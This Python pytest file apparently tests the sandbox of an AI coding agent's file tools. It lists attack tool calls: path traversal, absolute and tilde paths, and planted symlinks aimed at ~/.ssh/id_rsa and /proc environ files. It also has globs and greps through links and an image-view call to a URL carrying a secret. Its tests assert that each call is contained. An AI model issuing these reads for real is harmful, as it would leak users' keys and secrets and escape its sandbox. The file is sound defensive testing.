# ruff: noqa: F811
"""Issue 10's attack corpus, the reads: every way the file tools could show the model a file outside.

The arena, what "contained" means and how an attack runs: tests/attack_arena.py.
"""

from __future__ import annotations

import pytest

from tests.attack_arena import Arena, Call, arena, arena_template, assert_contained, bash, expand, run_attack  # noqa: F401  (the fixtures)
from zett_tui.runtime.modes import PermissionMode

# -- reads: the file tools -----------------------------------------------------------------------


def _plant_links(arena: Arena) -> None:
    project = arena.project
    (project / "notes.txt").symlink_to(arena.home / ".ssh" / "id_rsa")
    (project / "linked_home").symlink_to(arena.home)
    (project / "env").symlink_to(f"/proc/{arena.witness.pid}/environ")
    (project / "self_env").symlink_to("/proc/self/environ")


READ_ATTACKS: dict[str, list[Call]] = {
    "relative-dotdot": [("read_file", {"path": "../../../../../..{H}/.ssh/id_rsa"})],
    "absolute": [("read_file", {"path": "{H}/.ssh/id_rsa"})],
    "tilde": [("read_file", {"path": "~/.ssh/id_rsa"})],
    "symlinked-file": [("read_file", {"path": "notes.txt"})],
    "symlinked-folder": [("read_file", {"path": "linked_home/key.pem"})],
    "proc-environ": [("read_file", {"path": "/proc/{PID}/environ"})],
    "proc-self-environ": [("read_file", {"path": "/proc/self/environ"})],
    "symlink-to-environ": [("read_file", {"path": "env"})],
    "symlink-to-self-environ": [("read_file", {"path": "self_env"})],
    "glob-through-link": [("glob", {"pattern": "linked_home/**/*"})],
    "glob-absolute": [("glob", {"pattern": "{H}/**/*"})],
    "grep-through-link": [("grep", {"pattern": "PRIVATE|KEY", "file_pattern": "**/*"})],
    "grep-absolute": [("grep", {"pattern": "KEY", "file_pattern": "{H}/.ssh/*"})],
    "grep-environ": [("grep", {"pattern": "CORPUS", "file_pattern": "/proc/{PID}/environ"})],
    "grep-environ-link": [("grep", {"pattern": "CORPUS", "file_pattern": "env"})],
    "view-image-outside": [("view_image", {"path": "{H}/.ssh/id_rsa"})],
    "view-image-url": [("view_image", {"path": "{URL}leak.png?k=secret"})],
}


@pytest.mark.parametrize("mode", list(PermissionMode), ids=[mode.value for mode in PermissionMode])
@pytest.mark.parametrize("name", sorted(READ_ATTACKS))
async def test_read_outside_the_project_never_reaches_the_model_unasked(
    arena: Arena, name: str, mode: PermissionMode
) -> None:
    outcome = await run_attack(arena, expand(READ_ATTACKS[name], arena), mode=mode, before_start=_plant_links)
    assert_contained(arena, outcome)
    if "self-environ" in name:  # its content is no marker of ours: the read itself must have asked
        assert outcome.asked, "reading zett's own environment did not ask"


async def test_reads_inside_the_project_stay_free(arena: Arena) -> None:
    """The other direction: containment must not cost the ordinary reads (this test can fail)."""
    calls: list[Call] = [
        ("read_file", {"path": "src/app.py"}),
        ("grep", {"pattern": "hello", "file_pattern": "**/*.py"}),
        ("glob", {"pattern": "src/*"}),
        bash("cat src/app.py && echo written > out.txt"),
    ]
    outcome = await run_attack(arena, calls)
    assert outcome.asked == []
    seen = outcome.model_saw()
    assert "print('hello')" in seen
    assert "src/app.py" in seen
    assert (arena.project / "out.txt").read_text() == "written\n"
